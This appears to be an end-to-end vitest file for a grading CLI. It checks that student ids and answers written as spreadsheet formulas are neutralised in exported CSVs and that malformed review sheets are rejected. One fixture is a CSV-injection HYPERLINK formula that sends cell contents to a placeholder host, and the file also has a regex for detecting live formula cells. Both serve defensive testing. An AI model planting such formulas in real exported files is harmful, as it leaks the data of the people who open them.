// TA-side hostile corpus, end to end with the real binary: a class whose ids and answers are spreadsheet formulas goes
// through grade batch, grade review --export and --import; bad sheets and a bad reviews.json change nothing.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { readCsv, textOf, writeCsv, type Cell } from '../../grader/util/csv.js';
import { ANSWER_CHARS, CSV_COLUMNS } from '../../grader/review/reviews-csv.js';
import type { Report } from '../../grader/model/report.js';
import type { Summary } from '../../grader/class-report/summary.js';
import { ROOT, runCli } from '../helpers/cli.js';

const base = mkdtempSync(join(tmpdir(), 'tfgrade-hostile-csv-e2e-'));
const out = join(base, 'out');
const IDS = ['-3+4', 'ana', 'x;=1+1;y'];
const HOSTILE_ANSWER = '=HYPERLINK("https://x/?d="&K2&K4,"Open") ';
afterAll(() => rmSync(base, { recursive: true, force: true }));

const rowsOf = (text: string): string[][] => {
  const r = readCsv(text);
  if ('error' in r) throw new Error(r.error.message);
  return r.rows;
};
const snapshot = () =>
  Object.fromEntries(
    readdirSync(out)
      .sort()
      .map((n) => [n, readFileSync(join(out, n), 'utf8')]),
  );
const summary = () => JSON.parse(readFileSync(join(out, 'summary.json'), 'utf8')) as Summary;
/** A cell a spreadsheet would run (or that carries a raw control character), unless it starts with our apostrophe. */
// eslint-disable-next-line no-control-regex
const live = (cell: string) =>
  !cell.startsWith("'") &&
  /^ *[=+\-@\t\r]|[,;\t|][=+\-@\t\r]|[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/.test(cell);

beforeAll(async () => {
  for (const s of IDS)
    cpSync(join(ROOT, 'test/fixtures/submissions/p2--correct'), join(base, 'class', s), { recursive: true });
  const file = join(base, 'class', 'ana', 'p2.ts');
  writeFileSync(
    file,
    readFileSync(file, 'utf8').replace(
      "'Each sigmoid layer",
      `'${HOSTILE_ANSWER.replace(/'/g, "\\'")}Each sigmoid layer`,
    ),
  );
  const r = await runCli(['batch', join(base, 'class'), '--out', out, '-e', 'p2'], { cwd: base });
  expect(r.code, r.stderr).toBe(0);
}, 240_000);

describe('hostile ids and answers through the real binary', () => {
  it('gradebook.csv and the review sheet hold them inert; the filled-in sheet imports the exact ids and comments', async () => {
    const gradebook = readFileSync(join(out, 'gradebook.csv'), 'utf8');
    expect(gradebook).toMatch(/^'-3\+4,/m);
    expect(gradebook).toMatch(/^"'x;=1\+1;y",/m);
    expect(rowsOf(gradebook).flat().filter(live)).toEqual([]);

    const exp = await runCli(['review', 'out', '--export', 'sheet.csv'], { cwd: base });
    expect(exp.code, exp.stderr).toBe(0);
    const raw = readFileSync(join(base, 'sheet.csv'), 'utf8');
    const cells = rowsOf(raw);
    expect(cells.flat().filter(live)).toEqual([]);
    expect(raw).toContain(`"'${HOSTILE_ANSWER.replace(/"/g, '""')}`);
    const rows = cells.map((r) => r.map(textOf));
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows.slice(1).map((r) => r[0])).toEqual(IDS);
    const anaReport = JSON.parse(readFileSync(join(out, 'ana.json'), 'utf8')) as Report;
    const answer = anaReport.exercises[0].parts.find((p) => p.id === 'explanation')!.answer!;
    expect(answer.startsWith(HOSTILE_ANSWER)).toBe(true);
    expect(rows[2][CSV_COLUMNS.indexOf('answer')]).toBe(Array.from(answer).slice(0, ANSWER_CHARS).join(''));

    // The TA fills in scores and a comment that is itself a formula; the sheet is written back as a spreadsheet would.
    const comment = '=SUM(A1:A9); "quoted", -1';
    const filled: Cell[][] = rows.map((r, i) =>
      i === 0 ? r : r.map((c, j) => (CSV_COLUMNS[j] === 'score' ? 2 : CSV_COLUMNS[j] === 'comment' ? comment : c)),
    );
    writeFileSync(join(base, 'filled.csv'), writeCsv(filled));
    const imp = await runCli(['review', 'out', '--import', 'filled.csv', '--by', 'ta1'], { cwd: base });
    expect(imp.code, imp.stderr).toBe(0);
    const decisions = (
      JSON.parse(readFileSync(join(out, 'reviews.json'), 'utf8')) as {
        decisions: { student: string; score: number; comment: string }[];
      }
    ).decisions;
    expect(decisions.map((d) => [d.student, d.score, d.comment]).sort()).toEqual(IDS.map((s) => [s, 2, comment]));
    expect(summary().reviews).toEqual({ decided: 3, pending: 0, stale: [] });
  }, 120_000);

  it.each([
    // The quote opened in row 3 closes at the first quote of row 4, and what follows it there is no delimiter.
    [
      'a quote never closed (the rows after it would be swallowed)',
      (line: string) => line.replace(/,review,.*$/, ',review,"never closed,,,answer'),
      'STRAY_QUOTE',
    ],
    ['a hexadecimal score', (line: string) => line.replace(/,2,review,/, ',0x2,review,'), 'BAD_SCORE'],
    ['an id with a trailing space', (line: string) => line.replace(/^ana,/, 'ana ,'), 'UNKNOWN_STUDENT'],
  ])(
    'a sheet with %s is refused whole: exit 2, REVIEWS_INVALID with row and code, nothing written',
    async (_, spoil, code) => {
      const lines = readFileSync(join(base, 'filled.csv'), 'utf8').split('\r\n');
      lines[2] = spoil(lines[2]);
      // The other rows score 1 now: were anything imported, the reports would change.
      const sheet = lines.map((l, i) => (i === 2 || i === 0 ? l : l.replace(/,2,review,/, ',1,review,'))).join('\r\n');
      writeFileSync(join(base, 'bad.csv'), sheet);
      const before = snapshot();
      const r = await runCli(['review', 'out', '--import', 'bad.csv'], { cwd: base });
      expect(r.code).toBe(2);
      expect(r.stderr).toMatch(/error\[REVIEWS_INVALID\]/);
      expect(r.stderr).toMatch(new RegExp(`row 3, column \\w+: \\[${code}\\]`));
      expect(snapshot()).toEqual(before);
    },
    120_000,
  );

  it('a reviews.json with score "two" stops grade review and grade batch --resume before any file changes', async () => {
    const file = join(out, 'reviews.json');
    const data = JSON.parse(readFileSync(file, 'utf8')) as { decisions: Record<string, unknown>[] };
    data.decisions[0].score = 'two';
    writeFileSync(file, JSON.stringify(data, null, 2));
    const before = snapshot();
    const review = await runCli(['review', 'out', '--accept-suggested'], { cwd: base });
    expect(review.code).toBe(2);
    expect(review.stderr).toMatch(/error\[REVIEWS_INVALID\] out\/reviews\.json is not a version 1 reviews file/);
    expect(review.stderr).toMatch(/out\/reviews\.json at decisions\[0\]\.score: must be a number\n +fix: /);
    const batch = await runCli(['batch', 'class', '--out', 'out', '-e', 'p2', '--resume'], { cwd: base });
    expect(batch.code).toBe(2);
    expect(batch.stderr).toMatch(/error\[REVIEWS_INVALID\]/);
    expect(snapshot()).toEqual(before);
  }, 120_000);
});
